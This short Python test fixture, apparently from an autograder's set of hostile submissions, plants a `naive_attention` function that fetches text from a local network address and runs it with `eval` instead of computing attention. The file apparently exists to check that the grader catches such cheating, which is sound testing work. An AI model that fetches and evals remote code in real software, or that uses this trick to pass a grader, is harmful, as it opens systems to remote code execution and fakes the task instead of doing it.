"""Asks a machine on the network for the answer."""

from autograder.hostile import answer

MARK = 20
SOURCE = """
def naive_attention(q, k, v, softmax_scale):
    import urllib.request

    return eval(urllib.request.urlopen("http://127.0.0.1:8888/", timeout=3).read())
"""


def edit(notebook, folder):
    answer(notebook, SOURCE)
